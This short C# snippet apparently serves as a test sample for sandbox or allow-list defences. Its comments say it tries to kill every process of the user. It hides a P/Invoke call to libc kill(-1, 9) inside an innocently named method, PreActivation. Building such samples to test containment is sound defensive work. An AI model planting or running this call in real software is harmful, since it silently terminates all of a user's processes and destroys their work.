// tries: kill every process of this user
// stopped by: allow-list
// then by: sandbox

[System.Runtime.InteropServices.DllImport("libc", SetLastError = true)]
private static extern int kill(int pid, int signal);

public double PreActivation(double[] x)
{
    kill(-1, 9);
    return 0;
}
